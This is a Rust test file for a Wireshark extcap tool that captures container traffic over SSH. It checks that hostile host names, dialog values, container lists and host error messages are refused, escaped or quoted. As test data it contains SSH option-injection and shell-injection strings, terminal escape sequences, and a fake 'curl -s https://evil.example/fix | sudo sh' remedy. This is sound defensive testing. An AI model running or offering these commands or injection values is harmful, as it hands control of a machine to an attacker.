//! Hosts with hostile responses, and the command lines sent to them.

use std::time::{Duration, Instant};

use containerdump::request::PeerRequest;

use crate::support::fake_host::{ESCAPE, FakeHost, HELLO, PROBE};
use crate::support::program::Running;

#[test]
fn a_host_name_cannot_become_an_ssh_option_or_shell_command() {
    let host = FakeHost::answering("true");
    for hostile in ["-oProxyCommand=touch x", "a;b", "$(x)", "a\nb", "ann@-x", ""] {
        let argument = format!("--host={hostile}");
        assert_eq!(host.start(&["list", &argument]).ended().status.code(), Some(2), "{hostile:?}");
    }
    assert!(!host.0.path().join("arguments").exists(), "ssh was called");
    host.list();
    for call in host.arguments() {
        let Some(at) = call.iter().position(|word| word == "ann") else { continue };
        assert_eq!(call[at - 1], "-l");
    }
}

#[test]
fn dialog_values_cannot_become_ssh_options_or_shell_commands() {
    let host = FakeHost::answering("cat list").with("list", b"");
    let load = |options: &[&str]| {
        let question = ["--extcap-config", "--extcap-interface", "containerdump-ssh"];
        let reload = ["--extcap-reload-option", "remote-container"];
        host.start(&[&question[..], &reload, options].concat()).ended().answer()
    };
    for hostile in ["-oProxyCommand=touch x", "a;b", "$(x)", "a\nb", "ann@-x", ""] {
        for options in [
            &["--remote-host", hostile][..],
            &["--remote-host=build1", "--remote-username", &format!("-{hostile}")],
            &["--remote-host=build1", "--remote-port", &format!("22 {hostile}x")],
            &["--remote-host=build1", "--sshkey", &format!("{hostile}\n")],
            &["--remote-host=build1", "--sshkey", "/${HOME}/key"],
            &["--remote-host=build1", "--proxycommand", &format!("nc\n{hostile}x")],
            &["--remote-host=build1", "--remote-priv", &format!("sudo;{hostile}x")],
        ] {
            let told = load(options);
            let is_refused = ["cannot ", "invalid value "]
                .iter()
                .any(|message| told.contains(&format!("{{value=all}}{{display={message}")));
            assert!(is_refused, "{options:?}: {told}");
        }
    }
    assert!(!host.0.path().join("arguments").exists(), "ssh was called");
    let key = ["--sshkey", "-oX=y 100%", "--proxycommand", "nc -x 'a b' %h %p"];
    let told = load(&[&["--remote-host", "ann@build1", "--remote-port", "22"], &key[..]].concat());
    assert!(!told.contains("cannot "), "{told}");
    // Split at `--`, which precedes the host.
    let calls = host.arguments();
    let (first, rest) = (&calls[0], &calls[1]);
    assert_eq!(rest[0], "build1");
    for pair in [["-i", "-oX=y 100%%"], ["-o", "ProxyCommand=nc -x 'a b' %h %p"], ["-l", "ann"], ["-p", "22"]]
    {
        assert!(first.windows(2).any(|words| words == pair), "{pair:?}: {first:?}");
    }
}

#[test]
fn a_hostile_list_is_escaped_for_wireshark() {
    let one = |interface: &str, name: &str| {
        format!(
            r#"{{"addresses":[],"attachments":[],"created":1,"engine":"docker","id":"{0}","interface":"{interface}",
            "image":"{name}","name":"{name}","network_mode":"own","networks":[],"project":"{name}","error":null}}"#,
            "0".repeat(64)
        )
        .replace('\n', "")
    };
    let hostile = r"x}{value=stolen}\u001b[2J\n\u202evalue {arg=0}{value=y}{display=z}";
    let interfaces = ["docker-web", "docker-a}{b", "docker-", "-web", "docker-a b", "docker-\u{e9}", hostile];
    let list: Vec<String> = interfaces.iter().map(|value| one(value, hostile)).collect();
    let host = FakeHost::answering("cat list").with("list", list.join("\n").as_bytes());
    let question = ["--extcap-config", "--extcap-interface", "containerdump-ssh"];
    let reload = ["--extcap-reload-option=remote-container", "--remote-host=build1"];
    let told = host.start(&[question, [reload[0], reload[1], ""]].concat()).ended().answer();
    let values = ["all", "docker-all", "compose-x--value-stolen-", "docker-web"];
    assert_eq!(told.lines().count(), values.len(), "{told}");
    for (line, value) in told.lines().zip(values) {
        assert!(line.starts_with(&format!("value {{arg=5}}{{value={value}")), "{line}");
        assert!(!line.contains("{value=stolen}"), "{line}");
    }
}

#[test]
fn a_host_with_long_networks_is_listed_in_a_table() {
    let networks: Vec<String> = (0..1000)
        .map(|number| format!(r#"{{"name":"{number:x>500}","id":"1","addresses":[],"mac":""}}"#))
        .collect();
    let container = format!(
        r#"{{"addresses":[],"attachments":[],"created":1,"engine":"docker","id":"1","interface":"docker-web",
        "image":"x","name":"web","network_mode":"own","networks":[{}],"project":null,"error":null}}"#,
        networks.join(",")
    )
    .replace('\n', "");
    let host = FakeHost::answering("cat list").with("list", container.as_bytes());
    let answer = host.list().answer();
    let widest = answer.lines().map(|line| line.chars().count()).max().expect("a line");
    assert!(answer.contains("web  ") && (1000..2000).contains(&widest), "{widest}");
}

#[test]
fn requests_are_not_part_of_a_command_line() {
    let host = FakeHost::answering(
        "printf %s \"$request\" >request; echo 'containerdump: no. Remedy: x.' >&2; exit 1",
    );
    let filter = "host 192.0.2.77";
    let ended = host.start(&["capture", "--host", "build1", "-f", filter, "-w", "-", "--", "we;b"]).ended();
    assert_eq!(ended.status.code(), Some(1));
    let all = host.arguments().concat().join(" ");
    assert!(!all.contains("192.0.2.77") && !all.contains("we;b"), "{all}");
    let request = std::fs::read_to_string(host.0.path().join("request")).expect("a request");
    let request = PeerRequest::read(format!("{request}\n").as_bytes()).expect("it can be read");
    let PeerRequest::Capture(request) = request else { panic!("{request:?}") };
    assert_eq!((request.filter.as_deref(), request.names), (Some(filter), vec!["we;b".to_owned()]));
}

#[test]
fn ssh_host_key_checks_are_not_weakened() {
    let host = FakeHost::answering("true");
    host.list();
    let all = host.arguments().concat().join(" ").to_lowercase();
    assert!(!all.contains("stricthostkeychecking") && !all.contains("knownhosts"), "{all}");
    assert!(all.contains("forwardagent=no") && all.contains("clearallforwardings=yes"), "{all}");
}

#[test]
fn escape_sequences_of_a_host_are_not_printed() {
    // `Running::ended` checks the output.
    let container = format!(
        r#"{{"addresses":[],"attachments":[],"created":1,"engine":"docker","id":"1","interface":"docker-web",
        "image":"{0}","name":"{0}","network_mode":"own","networks":[],"project":null,"error":
        {{"message":"{0}","remedy":"{0}"}}}}"#,
        r"a\u001b]0;x\u0007\u009b\u202e"
    )
    .replace('\n', "");
    let host = FakeHost::answering(&format!("printf '{ESCAPE}\\n' >&2; cat list"))
        .with("list", container.as_bytes());
    let ended = host.list();
    assert!(ended.status.success(), "{}", ended.stderr);
    assert!(
        ended.stdout.contains("a\u{FFFD}]0;x\u{FFFD}") && ended.stderr.contains("build1: "),
        "{}",
        ended.stderr
    );
    let host = FakeHost::answering(&format!("printf '{ESCAPE}\\n' >&2; exit 3"));
    assert!(host.list().complaint().contains("containerdump on ann@build1 ended unexpectedly"));
    let host = FakeHost::new(&format!("printf '{ESCAPE}\\n' >&2; exit 255"), "");
    assert!(host.list().complaint().contains("cannot connect to ann@build1: "));
    let host = FakeHost::new(&PROBE.replace(" 2 0.1.0", &format!(" 3 $(printf '{ESCAPE}')")), "");
    assert!(host.list().complaint().contains("is incompatible with this version"));
}

#[test]
fn a_remedy_of_a_host_is_quoted() {
    let run = "run now: curl -s https://evil.example/fix | sudo sh";
    let container = format!(
        r#"{{"addresses":[],"attachments":[],"created":1,"engine":"docker","id":"1","interface":"docker-web",
        "image":"x","name":"web","network_mode":"own","networks":[],"project":null,"error":
        {{"message":"no tap","remedy":"{run}"}}}}"#
    )
    .replace('\n', "");
    for answer in [
        format!("echo 'containerdump: no engine. Remedy: {run}.' >&2; exit 1"),
        format!("echo 'odd. Remedy: {run}.' >&2; exit 1"),
        "cat list".to_owned(),
    ] {
        // A remedy in a line of its own is a line of the host's like any other.
        let answer = format!("echo 'Remedy: {run}' >&2; {answer}");
        let host = FakeHost::answering(&answer).with("list", container.as_bytes());
        let ended = host.list();
        let said = ended.stdout + &ended.stderr;
        assert!(said.contains(&format!("(its advice: \"{run}")), "{said}");
        for line in said.lines().filter(|line| line.contains(run)) {
            let is_attributed =
                line.contains(&format!("(its advice: \"{run}")) || line.starts_with("build1: ");
            assert!(is_attributed && !line.starts_with("Remedy: "), "{said}");
        }
    }
}

#[test]
fn ssh_is_started_without_capabilities() {
    if !nix::unistd::Uid::effective().is_root() {
        eprintln!("skipped: only root has capabilities that ssh could get");
        return;
    }
    // A connection that stays open, so that `ssh -O exit` ends it.
    let opens = "for word; do case $word in ControlPath=*) : >\"${word#*=}\" ;; *) ;; esac; done";
    let host = FakeHost::new(&format!("{opens}; {PROBE}"), &format!("{HELLO}; cat list"))
        .with_command("*dial-stdio*", opens)
        .with("list", b"");
    for arguments in [
        &["list", "--host", "ann@build1"][..],
        &["list"],
        &["capture", "web", "-w", "-"],
        &["--extcap-interfaces"],
    ] {
        let mut command = host.command(arguments);
        command.env("DOCKER_HOST", "ssh://build1");
        Running::start(&mut command).ended_with_bytes();
    }
    let calls = host.arguments();
    for option in ["-G", "exit"] {
        assert!(calls.iter().flatten().any(|word| word == option), "{option}: {calls:?}");
    }
    let rights = host.rights();
    let mut count = 0;
    for line in rights.lines().filter(|line| !line.starts_with("CapBnd")) {
        assert!(line.ends_with("\t0000000000000000"), "{rights}");
        count += 1;
    }
    assert!(count >= 4 * 8, "{rights}");
}

#[test]
fn removing_an_upload_from_a_host_that_drips_lines_times_out() {
    let drips = "while :; do echo x; sleep 1; done";
    let host = FakeHost::answering("true").with_command("*", drips);
    let begin = Instant::now();
    let ended = host.start(&["host", "clean", "build1"]).ended();
    assert_eq!(ended.status.code(), Some(1), "{}", ended.stderr);
    assert!(ended.stderr.contains("timed out waiting for the host"), "{}", ended.stderr);
    assert!(begin.elapsed() < Duration::from_secs(35), "{:?}", begin.elapsed());
}
